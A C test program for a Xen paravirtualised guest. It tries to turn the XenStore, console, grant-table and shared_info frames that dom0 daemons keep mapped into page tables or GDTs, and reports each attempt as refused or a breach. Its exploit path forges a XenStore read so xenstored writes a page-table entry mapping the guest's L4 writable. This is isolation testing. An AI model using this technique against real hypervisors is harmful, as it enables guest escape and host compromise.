/*
 * heldpt - the rings dom0's daemons keep mapped, turned into tables.
 *
 * xenstored and xenconsoled map a domain's store and console pages
 * writable for as long as they serve it (xenstored_domain.c map_interface,
 * console/daemon/io.c domain_create_ring: grant entries
 * GNTTAB_RESERVED_XENSTORE and GNTTAB_RESERVED_CONSOLE), so those frames
 * hold the writable type and the guest can never make them a page table
 * or a GDT: the daemons would then write unvalidated entries.  Here the
 * guest drops its own mapping of each ring and tries anyway.  If the
 * store frame does become an L1 the guest goes on as an attacker would:
 * xenstored's reply to a read (a value the guest stored) lands in the
 * table as a present entry mapping the guest's own L4 writable.
 * "heldpt: N/M attempts refused".
 */
#include "attempt.h"
#include "evtchn.h"
#include "gnttab.h"
#include "xs.h"

#define VCPUOP_register_vcpu_info   10

struct vcpu_register_vcpu_info {        /* vcpu.h */
    uint64_t mfn;                       /* frame of the new vcpu_info */
    uint32_t offset;                    /* its offset in the frame */
    uint32_t rsvd;
};

#define FORGED_REQ_ID   0x100

static struct xenstore_domain_interface *store;
static void *console;
static const pte_t *l4;
static pte_t *slot;                     /* a free L2 slot of the start-of-day region */
static unsigned long slot_va;           /* what it maps */
static uint32_t reply_at;               /* rsp_prod when the store page was unmapped */

static void verdict(const char *what, long got, long want)
{
    if ( got == want )
        report(want ? REFUSED : ALLOWED, what, "%s", rcstr(got));
    else
        report(got == 0 ? BREACH : DIFFERENT, what, "%s (Xen: %s)", rcstr(got), rcstr(want));
}

static long unmap_self(const void *va)
{
    return HYPERVISOR_update_va_mapping((unsigned long)va, 0, UVMF_INVLPG);
}

static long hook(unsigned long mfn)
{
    return mmu_update1(virt_to_maddr(slot), ((pte_t)mfn << PAGE_SHIFT) | PTE_TABLE,
                       MMU_NORMAL_PT_UPDATE);
}

static long set_gdt(unsigned long mfn, unsigned int entries)
{
    unsigned long frames[1] = { mfn };

    return _hypercall2(__HYPERVISOR_set_gdt, frames, entries);
}

/* set_gdt on mfn, undone at once if it was taken. */
static long gdt_attempt(unsigned long mfn)
{
    long rc = set_gdt(mfn, 512);

    if ( rc == 0 )
        set_gdt(0, 0);
    return rc;
}

/* ---- making the store page look like a valid L1 --------------------------- */

static long xs_write_bytes(const char *path, const void *value, size_t n)
{
    char buf[64];
    size_t len = strlen(path) + 1;

    memcpy(buf, path, len);
    memcpy(buf + len, value, n);
    return xs_request(XS_WRITE, buf, len + n, NULL, 0);
}

/* data/ followed by n q's. */
static const char *q_path(unsigned int n)
{
    static char path[16];

    memcpy(path, "data/", 5);
    memset(path + 5, 'q', n);
    path[5 + n] = '\0';
    return path;
}

/*
 * Leave rsp_prod and req_prod on 8-byte boundaries: a read of a missing
 * node answers 23 bytes (one back, mod 8); a read of data/ and n q's (an
 * 8-byte value) answers 24 and asks 22 + n.
 */
static void align_ring(void)
{
    for ( unsigned int n = 1; n <= 8; n++ )
        xs_write_bytes(q_path(n), "ABCDEFGH", 8);
    while ( store->rsp_prod % 8 )
        xs_read("data/missing", NULL, 0);
    for ( unsigned int n = 1; n <= 8; n++ )
        if ( (store->req_prod + 22 + n) % 8 == 0 )
        {
            xs_read(q_path(n), NULL, 0);
            break;
        }
}

/* The forged read, put in req[] but not kicked; all else zeroed. */
static int prepare_store(void)
{
    pte_t pte = ((pte_t)virt_to_mfn(l4) << PAGE_SHIFT) | PTE_RW;
    struct xsd_sockmsg msg = { .type = XS_READ, .req_id = FORGED_REQ_ID, .len = 9 };
    uint32_t at;
    const uint64_t *word = (const uint64_t *)store;

    xs_write_bytes("data/pte", &pte, sizeof(pte));
    align_ring();
    at = store->req_prod % XENSTORE_RING_SIZE;
    reply_at = store->rsp_prod % XENSTORE_RING_SIZE;
    if ( at + sizeof(msg) + 9 > XENSTORE_RING_SIZE || reply_at % 8 ||
         reply_at + sizeof(msg) + sizeof(pte) > XENSTORE_RING_SIZE )
        return 0;
    memset(store->req, 0, sizeof(store->req));
    memset(store->rsp, 0, sizeof(store->rsp));
    memcpy(store->req + at, &msg, sizeof(msg));
    memcpy(store->req + at + sizeof(msg), "data/pte", 9);
    store->req_prod += sizeof(msg) + 9;
    store->server_features = store->connection = store->error = 0;
    for ( unsigned int i = 0; i < PT_ENTRIES; i++ )
        if ( word[i] & _PAGE_PRESENT )
            return 0;
    return 1;
}

/* ---- the attempts ------------------------------------------------------- */

/* The store frame is an L1 under slot: let xenstored answer the forged read. */
static void exploit(void)
{
    unsigned long idx = (XENSTORE_RING_SIZE + reply_at + sizeof(struct xsd_sockmsg)) / 8;
    volatile uint64_t *va = (volatile uint64_t *)(slot_va + idx * PAGE_SIZE);
    uint64_t first;

    evtchn_send(start_info->store_evtchn);
    if ( read_faults(va, &first) )
        report(REFUSED, "xenstored's reply in the store frame pinned as an L1",
               "the forged entry maps nothing");
    else if ( first == l4[0] && !write_faults(va, first) )
        report(BREACH, "xenstored's reply in the store frame pinned as an L1",
               "the guest's L4 is mapped writable through it");
    else
        report(BREACH, "xenstored's reply in the store frame pinned as an L1",
               "a forged entry maps a frame (0x%lx)", first);
}

static void store_attempts(void)
{
    unsigned long mfn = start_info->store_mfn;
    int ready = prepare_store();
    long rc;

    if ( !ready )
        report(WRONG, "the store page made a valid L1", "alignment failed");
    unmap_self(store);
    rc = mmuext_one(MMUEXT_PIN_L1_TABLE, mfn);
    verdict("PIN_L1 of the store frame xenstored maps", rc, -XEN_EINVAL);
    if ( rc == 0 )
    {
        verdict("the pinned store frame hooked into an L2 slot", hook(mfn), 0);
        exploit();
        mmu_update1(virt_to_maddr(slot), 0, MMU_NORMAL_PT_UPDATE);
        return;                     /* the table now maps the L4 untyped: stop here */
    }
    verdict("the store frame hooked into an L2 slot", hook(mfn), -XEN_EINVAL);
    report(REFUSED, "xenstored's reply in the store frame pinned as an L1",
           "the frame never became a table");
    verdict("PIN_L2 of the store frame", mmuext_one(MMUEXT_PIN_L2_TABLE, mfn), -XEN_EINVAL);
    verdict("PIN_L4 of the store frame", mmuext_one(MMUEXT_PIN_L4_TABLE, mfn), -XEN_EINVAL);
    verdict("set_gdt on the store frame", gdt_attempt(mfn), -XEN_EINVAL);
    verdict("the store page mapped writable again", remap_self(store, PTE_RW), 0);
    evtchn_send(start_info->store_evtchn);      /* the forged read is answered, dropped */
    verdict("a XenStore read afterwards", xs_read("data/pte", NULL, 0) == 8 ? 0 : -XEN_EIO, 0);
}

/* xc_dom_gnttab_seed: entry 0 the console, entry 1 the store, both to dom0, in use. */
static void reserved_entries(void)
{
    const grant_entry_v1_t *c = &gnttab[0], *x = &gnttab[1];
    unsigned int busy = GTF_permit_access | GTF_reading | GTF_writing;

    if ( c->flags == busy && c->domid == 0 && c->frame == start_info->console.domU.mfn &&
         x->flags == busy && x->domid == 0 && x->frame == start_info->store_mfn )
        report(ALLOWED, "the reserved grant entries", "0: console, 1: store, to domain 0, in use");
    else
        report(WRONG, "the reserved grant entries", "0: %x %u %x, 1: %x %u %x (Xen: %x 0 %lx, %x 0 %lx)",
               c->flags, c->domid, c->frame, x->flags, x->domid, x->frame,
               busy, start_info->console.domU.mfn, busy, start_info->store_mfn);
}

/* The guest ends its console grant: the daemon's mapping, not the entry, holds the type. */
static void ended_grant(void)
{
    unsigned long mfn = start_info->console.domU.mfn;
    grant_entry_v1_t saved = gnttab[0];
    long rc;

    gnttab[0].flags = 0;
    gnttab[0].frame = 0;
    unmap_self(console);
    rc = mmuext_one(MMUEXT_PIN_L1_TABLE, mfn);
    remap_self(console, PTE_RW);
    gnttab[0] = saved;
    verdict("PIN_L1 of the console frame after the guest cleared entry 0", rc, -XEN_EINVAL);
}

static long set_version(uint32_t version)
{
    struct gnttab_set_version op = { .version = version };

    return HYPERVISOR_grant_table_op(GNTTABOP_set_version, &op, 1);
}

/*
 * The daemons' mappings are dom0's, not the guest's: a switch of grant
 * version keeps entries 0-7 in use (gnttab_set_version), and the guest's
 * own unmap of handles 0 and 1 finds nothing of its own to unmap.
 */
static void holds_survive(void)
{
    unsigned long mfn = start_info->store_mfn;
    struct gnttab_unmap_grant_ref un[2] = { { .handle = 0 }, { .handle = 1 } };
    long rc = set_version(2);

    unmap_self(store);
    verdict("grant version 2 with the rings mapped by dom0", rc, 0);
    verdict("PIN_L1 of the store frame under grant v2", mmuext_one(MMUEXT_PIN_L1_TABLE, mfn),
            -XEN_EINVAL);
    verdict("back to grant version 1", set_version(1), 0);
    HYPERVISOR_grant_table_op(GNTTABOP_unmap_grant_ref, un, 2);
    if ( un[0].status == GNTST_bad_handle && un[1].status == GNTST_bad_handle )
        report(REFUSED, "the guest's unmap of handles 0 and 1", "%s each",
               gntst_name(GNTST_bad_handle));
    else
        report(un[0].status == GNTST_okay ? BREACH : DIFFERENT,
               "the guest's unmap of handles 0 and 1", "%s, %s (Xen: GNTST_bad_handle each)",
               gntst_name(un[0].status), gntst_name(un[1].status));
    verdict("PIN_L1 of the store frame after that", mmuext_one(MMUEXT_PIN_L1_TABLE, mfn),
            -XEN_EINVAL);
    remap_self(store, PTE_RW);
}

/* Frames Xen shares with the guest (share_xen_page_with_guest) keep the writable type. */
static void xen_frames(void)
{
    unsigned long frame = 0;
    struct gnttab_setup_table op = { .dom = DOMID_SELF, .nr_frames = 1, .frame_list = &frame };

    HYPERVISOR_grant_table_op(GNTTABOP_setup_table, &op, 1);
    verdict("PIN_L1 of grant-table frame 0", mmuext_one(MMUEXT_PIN_L1_TABLE, frame), -XEN_EINVAL);
    verdict("grant-table frame 0 hooked into an L2 slot", hook(frame), -XEN_EINVAL);
    frame = start_info->shared_info >> PAGE_SHIFT;
    verdict("PIN_L1 of the shared_info frame", mmuext_one(MMUEXT_PIN_L1_TABLE, frame),
            -XEN_EINVAL);
    verdict("the shared_info frame hooked into an L2 slot", hook(frame), -XEN_EINVAL);
}

/* Last: vcpu 0's time then lives in the new vcpu_info, which the library does not read. */
static void vcpu_info_frame(void)
{
    void *page = padding_alloc();
    struct vcpu_register_vcpu_info vi = { .mfn = virt_to_mfn(page), .offset = 0 };
    long rc = _hypercall3(__HYPERVISOR_vcpu_op, VCPUOP_register_vcpu_info, 0, &vi);

    if ( rc )
        report(WRONG, "VCPUOP_register_vcpu_info on a padding page", "%s", rcstr(rc));
    unmap_self(page);
    verdict("PIN_L1 of the frame holding vcpu 0's vcpu_info",
            mmuext_one(MMUEXT_PIN_L1_TABLE, vi.mfn), -XEN_EINVAL);
}

/* printk goes by console_io, so the console page may stay unmapped meanwhile. */
static void console_attempts(void)
{
    unsigned long mfn = start_info->console.domU.mfn;

    unmap_self(console);
    verdict("PIN_L1 of the console frame xenconsoled maps",
            mmuext_one(MMUEXT_PIN_L1_TABLE, mfn), -XEN_EINVAL);
    verdict("the console frame hooked into an L2 slot", hook(mfn), -XEN_EINVAL);
    verdict("PIN_L3 of the console frame", mmuext_one(MMUEXT_PIN_L3_TABLE, mfn), -XEN_EINVAL);
    verdict("set_gdt on the console frame", gdt_attempt(mfn), -XEN_EINVAL);
    verdict("the console page mapped writable again", remap_self(console, PTE_RW), 0);
}

void guest_main(start_info_t *si)
{
    attempts_init("heldpt");
    events_init();
    l4 = (const pte_t *)si->pt_base;
    slot_va = GUEST_VIRT_BASE + (PT_ENTRIES - 1) * PT_SPAN(2);
    slot = entry_of(l4, slot_va, 2);
    if ( !slot || *slot || xs_init() )
    {
        printk("heldpt: FAILED: no free L2 slot or no store ring\n");
        attempts_done();
    }
    store = mfn_to_virt(si->store_mfn);
    console = mfn_to_virt(si->console.domU.mfn);
    gnttab_init();
    reserved_entries();
    console_attempts();
    ended_grant();
    store_attempts();
    holds_survive();
    xen_frames();
    vcpu_info_frame();
    attempts_done();
}
